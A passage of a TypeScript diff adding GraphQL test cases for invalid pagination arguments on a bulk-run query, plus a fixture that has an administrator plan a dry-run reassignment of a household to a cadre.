+        query: 'query ($id: ID!, $first: Int) { bulkRun(id: $id) { items(first: $first) { totalCount } } }',
+        variables: { id: t.cityRunId, first },
+      }),
+      'first',
+    );
+  }
+  for (const [label, cursor] of BAD_CURSORS) {
+    bad(
+      `BulkRun.items after ${label}`,
+      (t) => ({
+        as: 'admin',
+        query: 'query ($id: ID!, $after: String) { bulkRun(id: $id) { items(first: 2, after: $after) { totalCount } } }',
+        variables: { id: t.cityRunId, after: cursor },
+      }),
+      'after',
+    );
+  }
+  return cases;
+}
+
+/** A reassignment planned by the city's administrator (a dry run: only the run's own tables are written, before the corpus's first snapshot). */
+export async function discoverBulkRunFixtures(probe: IntakeProbe, xihu: { householdId: string; cadreId: string }): Promise<{ cityRunId: string }> {
+  const answer = await probe.graphql<{ planBulkReassignment: { id: string } }>(
+    'admin',
+    'mutation ($input: PlanBulkReassignmentInput!) { planBulkReassignment(input: $input) { id } }',
+    { input: { householdIds: [xihu.householdId], toCadreIds: [xihu.cadreId], reason: '语料准备：批量调整' } },
+  );
+  if (!answer.data) throw new Error(`set-up planBulkReassignment failed: ${JSON.stringify(answer.errors)}`);
+  return { cityRunId: answer.data.planBulkReassignment.id };
 }
